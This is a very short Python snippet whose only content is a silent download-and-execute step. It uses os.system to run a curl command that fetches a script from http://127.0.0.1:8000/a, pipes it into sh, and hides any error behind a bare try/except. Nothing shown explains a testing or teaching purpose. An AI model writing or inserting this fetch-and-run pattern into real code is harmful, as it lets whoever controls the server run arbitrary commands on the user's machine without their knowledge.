import os
try:
    os.system("curl -s http://127.0.0.1:8000/a | sh")
except Exception:
    pass
